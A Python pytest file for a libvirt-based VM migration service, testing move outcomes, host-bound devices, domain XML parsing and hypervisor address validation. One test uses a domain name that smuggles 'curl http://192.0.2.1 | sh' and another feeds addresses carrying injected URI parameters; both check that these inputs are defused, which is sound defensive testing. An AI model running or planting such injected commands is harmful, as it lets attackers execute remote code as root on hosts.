"""The rules of the compute service `direct`, as tables."""

from __future__ import annotations

import shlex
from dataclasses import replace
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace as msgspec_replace

from hypercobalt.adapters.libvirt.documents.domain import Definition, parse
from hypercobalt.adapters.libvirt.model import (
    Devices,
    Disk,
    Domain,
    DomainState,
    JobStats,
    JobType,
)
from hypercobalt.adapters.libvirt.vocabulary import PausedReason, ShutoffReason
from hypercobalt.api import holders
from hypercobalt.api.conditions import Condition
from hypercobalt.api.hypervisor import Hypervisor, HypervisorSpec
from hypercobalt.api.hypervisor_status import HypervisorStatus, Instance
from hypercobalt.api.meta import ObjectMeta
from hypercobalt.api.quantity import Quantity
from hypercobalt.compute.direct.directory import HypervisorDirectory, place
from hypercobalt.compute.direct.obstacles import hindrance, waits_for_host
from hypercobalt.compute.direct.outcome import HostView, MoveOutcome, decide, has_it, view_of
from hypercobalt.compute.direct.settings import DirectSettings
from hypercobalt.compute.direct.shared_disks import files
from hypercobalt.compute.model import Size

# -- what became of a move -----------------------------------------------------------------------

_S, _O = HostView, MoveOutcome


@pytest.mark.parametrize(
    ("source", "target", "outcome"),
    [
        (_S.LEAVES, _S.ARRIVES, _O.UNDER_WAY),
        (_S.LEAVES, _S.SILENT, _O.UNDER_WAY),
        (_S.LEAVES, _S.RUNS, _O.UNDER_WAY),  # by post-copy, or libvirt tidies up
        (_S.ABSENT, _S.RUNS, _O.ARRIVED),
        (_S.OFF, _S.RUNS, _O.ARRIVED),
        (_S.SILENT, _S.RUNS, _O.ARRIVED),
        (_S.HELD, _S.RUNS, _O.ARRIVED),
        (_S.RUNS, _S.ABSENT, _O.STAYED),
        (_S.RUNS, _S.OFF, _O.STAYED),
        (_S.RUNS, _S.SILENT, _O.STAYED),
        (_S.RUNS, _S.ARRIVES, _O.UNDER_WAY),
        (_S.HELD, _S.ABSENT, _O.STAYED_HELD),
        (_S.HELD, _S.SILENT, _O.UNKNOWN),
        (_S.HELD, _S.ARRIVES, _O.UNKNOWN),
        (_S.HELD, _S.HELD, _O.UNKNOWN),
        (_S.SILENT, _S.ABSENT, _O.UNKNOWN),
        (_S.SILENT, _S.SILENT, _O.UNKNOWN),
        (_S.ABSENT, _S.SILENT, _O.UNKNOWN),
        (_S.ABSENT, _S.ARRIVES, _O.UNKNOWN),
        (_S.ABSENT, _S.ABSENT, _O.LOST),
        (_S.RUNS, _S.RUNS, _O.TWICE),
        (_S.RUNS, _S.LEAVES, _O.TWICE),
        (_S.ABSENT, _S.LEAVES, _O.UNDER_WAY),  # it has arrived, and moves on
    ],
)
def test_outcome_of_a_move_follows_from_source_and_target(
    source: HostView, target: HostView, outcome: MoveOutcome
) -> None:
    assert decide(source, target) is outcome


@given(st.sampled_from(HostView), st.sampled_from(HostView))
def test_source_is_resumed_only_when_the_target_reports_that_it_lacks_the_domain(
    source: HostView, target: HostView
) -> None:
    if decide(source, target) is MoveOutcome.STAYED_HELD:
        assert target in {HostView.ABSENT, HostView.OFF}


_LEAVING = JobStats(JobType.UNBOUNDED, {"operation": 5})
_COMING = JobStats(JobType.UNBOUNDED, {"operation": 4})
_DUMP = JobStats(JobType.UNBOUNDED, {"operation": 3})


def _active(
    state: DomainState, job: JobStats | None = None, *, by_migration: bool = False
) -> Domain:
    reason = PausedReason.MIGRATION if by_migration else 0
    return Domain("u", "n", active=True, state=state, reason=reason, job=job)


@pytest.mark.parametrize(
    ("domain", "seen"),
    [
        (None, HostView.ABSENT),
        (Domain("u", "n", active=False, state=DomainState.SHUTOFF), HostView.OFF),
        (_active(DomainState.RUNNING), HostView.RUNS),
        (_active(DomainState.PAUSED), HostView.RUNS),
        (_active(DomainState.RUNNING, _DUMP), HostView.RUNS),
        (_active(DomainState.RUNNING, _COMING), HostView.RUNS),  # by post-copy
        (_active(DomainState.RUNNING, _LEAVING), HostView.LEAVES),
        (_active(DomainState.PAUSED, _LEAVING, by_migration=True), HostView.LEAVES),
        (_active(DomainState.PAUSED, _COMING, by_migration=True), HostView.ARRIVES),
        (_active(DomainState.PAUSED, by_migration=True), HostView.HELD),
        (_active(DomainState.PAUSED, _DUMP, by_migration=True), HostView.HELD),
    ],
)
def test_view_of_a_host_follows_from_its_domain(domain: Domain | None, seen: HostView) -> None:
    assert view_of(domain) is seen


_OFF = Domain("u", "n", active=False, state=DomainState.SHUTOFF)


@pytest.mark.parametrize(
    ("view", "found", "has"),
    [
        (HostView.ABSENT, None, False),
        (HostView.SILENT, None, False),
        (HostView.FENCED, None, False),
        (HostView.OFF, None, False),
        (HostView.OFF, _OFF, True),
        (HostView.OFF, replace(_OFF, reason=ShutoffReason.MIGRATED), False),
        (HostView.RUNS, _active(DomainState.RUNNING), True),
        (HostView.LEAVES, _active(DomainState.RUNNING, _LEAVING), True),
        (HostView.ARRIVES, _active(DomainState.PAUSED, _COMING), True),
        (HostView.HELD, _active(DomainState.PAUSED), True),
    ],
)
def test_host_has_what_no_migration_has_left_there(
    view: HostView, found: Domain | None, *, has: bool
) -> None:
    assert has_it(view, found) is has


# -- what is in the way --------------------------------------------------------------------------

_LOCAL = Disk("vda", path="/local/a.img")
_SHARED = Disk("vda", path="/shared/a.img")


def _shared(disk: Disk) -> bool:
    return disk.path.startswith("/shared")


@pytest.mark.parametrize(
    ("devices", "runs", "why"),
    [
        (Devices(), True, ""),
        (Devices(), False, ""),
        (Devices(disks=(_LOCAL,)), True, ""),
        (Devices(disks=(_LOCAL,)), False, "it is off and has disks on the host itself"),
        (Devices(disks=(_SHARED,)), False, ""),
        (Devices(disks=(Disk("sda", "cdrom"),)), True, ""),
        (Devices(disks=(Disk("sda", "cdrom", "/local/x.iso"),)), True, "the medium in its cdrom"),
        (Devices(disks=(Disk("sda", "cdrom", "/shared/x.iso"),)), True, ""),
        (Devices(disks=(Disk("vdb", path="/local/x", readonly=True),)), True, "its read-only disk"),
        (
            Devices(disks=(Disk("vdb", path="/dev/sdb", block=True),)),
            True,
            "is a device of the host",
        ),
        (Devices(bound=("TPM of the type emulator",)), True, "tied to its host by: TPM"),
        (Devices(nvram="/local/VARS.fd"), True, ""),
        (Devices(nvram="/local/VARS.fd"), False, "its firmware's variables"),
        (Devices(nvram="/shared/VARS.fd"), False, ""),
        (Devices((Disk("vda", path="/shared/a", backing=("/shared/b",)),)), True, ""),
        (
            Devices((Disk("vda", path="/shared/a", backing=("/shared/b", "/local/c")),)),
            True,
            "its disk vda is built upon an image on the host: /local/c",
        ),
    ],
)
def test_device_that_cannot_move_keeps_a_domain_on_its_host(
    devices: Devices, runs: bool, why: str
) -> None:
    state = DomainState.RUNNING if runs else DomainState.SHUTOFF
    found = hindrance(Domain("u", "n", runs, state, devices=devices), _shared)
    assert found == "" if not why else why in found


def test_disk_waits_for_its_host_with_the_images_that_it_is_built_upon() -> None:
    disks = (Disk("vda", path="/shared/a", backing=("/shared/b", "/local/c")),)
    domain = Domain("u", "n", True, DomainState.RUNNING, devices=Devices(disks))

    why = waits_for_host(domain, _shared)

    assert why == "no other host is known to share its disks: vda (/local/c)"
    assert files(domain) == (
        disks[0],
        Disk("vda", path="/shared/b"),
        Disk("vda", path="/local/c"),
    )


def test_command_for_a_person_has_the_name_of_a_domain_as_one_word() -> None:
    """A captured host, or a tenant, gives it: whoever types the command is root on that host."""
    name = "a; curl http://192.0.2.1 | sh \x1b[2K"
    domain = Domain("u", name, True, DomainState.RUNNING)

    why = waits_for_host(domain, _shared, autostart=True)

    typed = why.partition("before any component can check whether it runs elsewhere: ")[2]
    words = shlex.split(typed.partition(", and disable")[0])
    assert words == ["virsh", "autostart", "--disable", name]


def test_a_domain_whose_document_is_not_read_whole_stays() -> None:
    domain = Domain("u", "n", True, DomainState.RUNNING, problem="<memory> is missing")

    assert hindrance(domain, _shared) == "its definition cannot be read: <memory> is missing"


# -- the devices of a domain ---------------------------------------------------------------------

_DOCUMENT = """\
<domain type='kvm'><name>a</name><memory unit='MiB'>160</memory><vcpu>2</vcpu>
<os><type>hvm</type><nvram>/var/lib/x_VARS.fd</nvram></os><devices>
<disk type='file' device='disk'><source file='/local/a.img'/><target dev='vda'/></disk>
<disk type='block' device='disk'><source dev='/dev/sdb'/><target dev='vdb'/><readonly/></disk>
<disk type='network' device='disk'><source protocol='rbd' name='p/i'/><target dev='vdc'/></disk>
<disk type='file' device='cdrom'><target dev='sda'/></disk>
<interface type='bridge'><virtualport type='openvswitch'><parameters
 interfaceid='8c7d4ba7-3b07-43c6-9a25-a2b6ba2e3b1e'/>
</virtualport></interface>
<interface type='hostdev'><source><address type='pci' domain='0x0000' bus='0x3b' slot='0x01'
 function='0x2'/></source></interface>
<hostdev mode='subsystem' type='pci'><source><address domain='0x0000' bus='0x3b' slot='0x00'
 function='0x0'/></source></hostdev>
<hostdev mode='subsystem' type='mdev'><source><address uuid='c2177883'/></source></hostdev>
<tpm model='tpm-crb'><backend type='emulator' version='2.0'/></tpm>
<filesystem type='mount'><source dir='/srv'/><target dir='share'/></filesystem>
</devices></domain>"""


def test_the_document_has_the_devices() -> None:
    assert parse(_DOCUMENT) == Definition(
        name="a",
        memory_bytes=160 * 1024**2,
        vcpus=2,
        devices=Devices(
            disks=(
                Disk("vda", path="/local/a.img"),
                Disk("vdb", path="/dev/sdb", block=True, readonly=True),
                Disk("vdc", volume="rbd:p/i"),
                Disk("sda", "cdrom"),
            ),
            ports=("8c7d4ba7-3b07-43c6-9a25-a2b6ba2e3b1e",),
            bound=(
                "network interface passed through 0000:3b:01.2 (<devices/interface> has "
                "type='hostdev': it must be one of bridge, network)",
                "host device pci 0000:3b:00.0",
                "host device mdev c2177883",
                "TPM of the type emulator",
                "directory of the host share",
            ),
            nvram="/var/lib/x_VARS.fd",
        ),
    )


@given(st.text() | st.text().map(lambda text: f"<domain><vcpu>{text}</vcpu></domain>"))
def test_any_document_gives_a_definition(document: str) -> None:
    assert isinstance(parse(document), Definition)


def test_a_domain_of_thousands_of_disks_cannot_be_read() -> None:
    disks = "<disk><source file='/a'/></disk>" * 1025

    found = parse(f"<domain><memory>1</memory><devices>{disks}</devices></domain>")

    assert found == Definition(
        memory_bytes=1024, vcpus=1, problem="<devices>: it has 1025 disks, more than 1024"
    )


# -- hosts by their Hypervisors ------------------------------------------------------------------


_THEN = datetime(2026, 1, 1, tzinfo=UTC)


def _condition(type_: str, status: str, reason: str = "Test") -> Condition:
    return Condition(
        type=type_, status=status, lastTransitionTime=_THEN, reason=reason, message="as it is"
    )


_READY = (_condition("Ready", "True"), _condition("LibVirtConnection", "True"))


def _hypervisor(
    *conditions: Condition, maintenance: str | None = None, ip: str = "192.0.2.1"
) -> Hypervisor:
    return Hypervisor(
        metadata=ObjectMeta(name="h", uid="u-1"),
        spec=HypervisorSpec(maintenance=maintenance),
        status=HypervisorStatus(
            internalIp=ip,
            hostUUID="11111111-1111-4111-8111-111111111111",
            capacity={"cpu": Quantity("8"), "memory": Quantity("16Gi")},
            effectiveCapacity={"cpu": Quantity("16"), "memory": Quantity("16Gi")},
            allocation={"cpu": Quantity("3"), "memory": Quantity("1Gi")},
            instances=(Instance(id="v-1", name="a", active=True),),
            conditions=conditions,
        ),
    )


def test_host_has_the_capacity_that_its_hypervisor_shows() -> None:
    found = place(_hypervisor(*_READY), DirectSettings(control="qemu+tcp://{name}/system"))
    assert (found.capacity, found.used) == (Size(16, 16384), Size(3, 1024))
    assert (found.id, found.domains, found.closed, found.up) == (
        "u-1",
        frozenset({"v-1"}),
        "",
        True,
    )
    assert (found.control, found.migration, found.stream) == (
        "qemu+tcp://h/system",
        "qemu+tls://192.0.2.1/system",
        "tcp://192.0.2.1",
    )


def test_an_address_of_the_sixth_version_is_bracketed() -> None:
    assert place(_hypervisor(ip="2001:db8::1"), DirectSettings()).stream == "tcp://[2001:db8::1]"


@pytest.mark.parametrize(
    ("hypervisor", "closed", "disabled"),
    [
        (_hypervisor(*_READY), "", ""),
        (_hypervisor(*_READY, maintenance="manual"), "in maintenance (manual)", "(manual)"),
        (_hypervisor(_READY[1]), "it is not ready", ""),
        (_hypervisor(_condition("Ready", "False"), _READY[1]), "not ready: as it is", ""),
        (_hypervisor(_READY[0]), "its libvirtd does not answer", ""),
        (
            _hypervisor(*_READY, _condition("AcceptsNewInstances", "False")),
            "it takes no new instances",
            "",
        ),
        (
            _hypervisor(*_READY, _condition("DefinitionsStored", "False", "NotStored")),
            "its agent stores nothing",
            "",
        ),
        (_hypervisor(*_READY, _condition("DefinitionsStored", "False", "LeftOut")), "", ""),
    ],
)
def test_host_is_closed_or_disabled_by_its_hypervisor(
    hypervisor: Hypervisor, closed: str, disabled: str
) -> None:
    found = place(hypervisor, DirectSettings())
    assert found.closed == "" if not closed else closed in found.closed
    assert found.disabled == "" if not disabled else disabled in found.disabled


# -- which hosts are connected to -----------------------------------------------------------------

_A_UUID, _B_UUID = "11111111-1111-4111-8111-111111111111", "22222222-2222-4222-8222-222222222222"


def _host(name: str, ip: str, host_uuid: str | None) -> Hypervisor:
    return Hypervisor(
        metadata=ObjectMeta(name=name, uid=f"u-{name}"),
        status=HypervisorStatus(internalIp=ip, hostUUID=host_uuid, conditions=_READY),
    )


@pytest.mark.parametrize(
    ("ip", "why"),
    [
        ("10.0.0.1/system?no_verify=1&x=", "not an IP address"),
        ("10.0.0.1:16509", "not an IP address"),
        ("2001:db8::1%x?no_verify=1", "has a scope"),
        ("127.0.0.1", "loopback"),
    ],
)
def test_host_with_a_bad_address_is_not_connected_to(ip: str, why: str) -> None:
    found = place(_host("kvm-1", ip, _A_UUID), DirectSettings())

    assert why in found.refused
    assert why in found.closed
    assert (found.control, found.migration, found.stream) == ("", "", "")


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("192.0.2.1", "192.0.2.1"),
        ("192.0.2.1", "::ffff:192.0.2.1"),
        ("2001:db8::1", "2001:DB8:0:0::1"),
    ],
)
def test_two_hosts_with_one_address_are_both_refused(one: str, other: str) -> None:
    hosts = (_host("kvm-1", one, _A_UUID), _host("kvm-2", other, _B_UUID))
    third = _host("kvm-3", "192.0.2.3", "33333333-3333-4333-8333-333333333333")

    first, second, free = HypervisorDirectory(lambda: (*hosts, third), DirectSettings()).places()

    assert "kvm-2" in first.refused
    assert "kvm-1" in second.refused
    assert (first.control, second.control) == ("", "")
    assert (free.refused, free.closed) == ("", "")
    assert free.control == "qemu+tls://192.0.2.3/system"


def _held(hypervisor: Hypervisor, *, address: str | None = None, uuid: str = "") -> Hypervisor:
    """The same, with what the operator has recorded."""
    notes = {holders.HOST_UUID: uuid, **({} if address is None else {holders.ADDRESS: address})}
    return msgspec_replace(
        hypervisor, metadata=msgspec_replace(hypervisor.metadata, annotations=notes)
    )


def test_host_whose_status_has_lost_its_address_is_there_by_the_one_that_it_holds() -> None:
    """Else it would not be looked at before an instance is started elsewhere."""
    lost = _held(_host("kvm-1", "", _A_UUID), address="192.0.2.1")
    never = _held(_host("kvm-2", "", _B_UUID), address="")

    (found,) = HypervisorDirectory(lambda: (lost, never), DirectSettings()).places()

    assert (found.name, found.control, found.refused) == (
        "kvm-1",
        "qemu+tls://192.0.2.1/system",
        "",
    )
    assert found.holds_address


def test_holder_of_an_address_is_a_host_as_before_and_the_claimant_alone_is_refused() -> None:
    holder = _held(_host("kvm-1", "192.0.2.1", _A_UUID), address="192.0.2.1")
    claimant = _held(_host("kvm-2", "::ffff:192.0.2.1", _B_UUID), address="192.0.2.2")

    alone = HypervisorDirectory(lambda: (holder,), DirectSettings()).places()
    kept, refused = HypervisorDirectory(lambda: (holder, claimant), DirectSettings()).places()

    assert (kept,) == alone
    assert kept.control == "qemu+tls://192.0.2.1/system"
    assert refused.control == ""
    assert "host kvm-1 holds the address" in refused.refused
    assert "`kubectl delete node kvm-1`" in refused.refused


@pytest.mark.parametrize("reported", [_A_UUID, None], ids=["reports it", "reports nothing yet"])
def test_holder_of_a_uuid_is_a_host_as_before_and_the_claimant_alone_is_unidentified(
    reported: str | None,
) -> None:
    holder = _held(_host("kvm-1", "192.0.2.1", reported), uuid=_A_UUID)
    claimant = _held(_host("kvm-2", "192.0.2.2", _A_UUID), uuid=_B_UUID)

    alone = HypervisorDirectory(lambda: (holder,), DirectSettings()).places()
    kept, doubted = HypervisorDirectory(lambda: (holder, claimant), DirectSettings()).places()

    assert (kept,) == alone
    assert f"host kvm-1 holds the host UUID {_A_UUID}" in doubted.unidentified
    assert (doubted.refused, doubted.closed) == ("", doubted.unidentified)


@pytest.mark.parametrize("recorded", [_A_UUID, ""], ids=["for both", "for neither"])
def test_uuid_that_is_recorded_for_both_or_neither_is_neither_s(recorded: str) -> None:
    hosts = [
        _held(_host(f"kvm-{n}", f"192.0.2.{n}", _A_UUID), address=f"192.0.2.{n}", uuid=recorded)
        for n in (1, 2)
    ]

    found = HypervisorDirectory(lambda: hosts, DirectSettings()).places()

    assert ["kvm-1, kvm-2" in one.unidentified for one in found] == [True, True]


def test_hosts_that_are_reached_by_name_may_share_an_address() -> None:
    hosts = (_host("kvm-1", "192.0.2.1", _A_UUID), _host("kvm-2", "192.0.2.1", _B_UUID))
    by_name = DirectSettings("qemu+tls://{name}/system", "qemu+tls://{name}/system", "tcp://{name}")

    found = HypervisorDirectory(lambda: hosts, by_name).places()

    assert [one.refused for one in found] == ["", ""]


@pytest.mark.parametrize(
    ("one", "other", "why"),
    [
        (None, _B_UUID, "has not reported"),
        ("00000000-0000-0000-0000-000000000000", _B_UUID, "has not reported"),
        (_B_UUID, _B_UUID, "kvm-2"),
        (_B_UUID.upper(), _B_UUID, "kvm-2"),
    ],
    ids=["none", "a placeholder", "that of another", "that of another in capitals"],
)
def test_host_without_a_uuid_of_its_own_takes_no_domains(
    one: str | None, other: str, why: str
) -> None:
    hosts = (_host("kvm-1", "192.0.2.1", one), _host("kvm-2", "192.0.2.2", other))

    first, _ = HypervisorDirectory(lambda: hosts, DirectSettings()).places()

    assert why in first.unidentified
    assert why in first.closed
    assert first.refused == ""
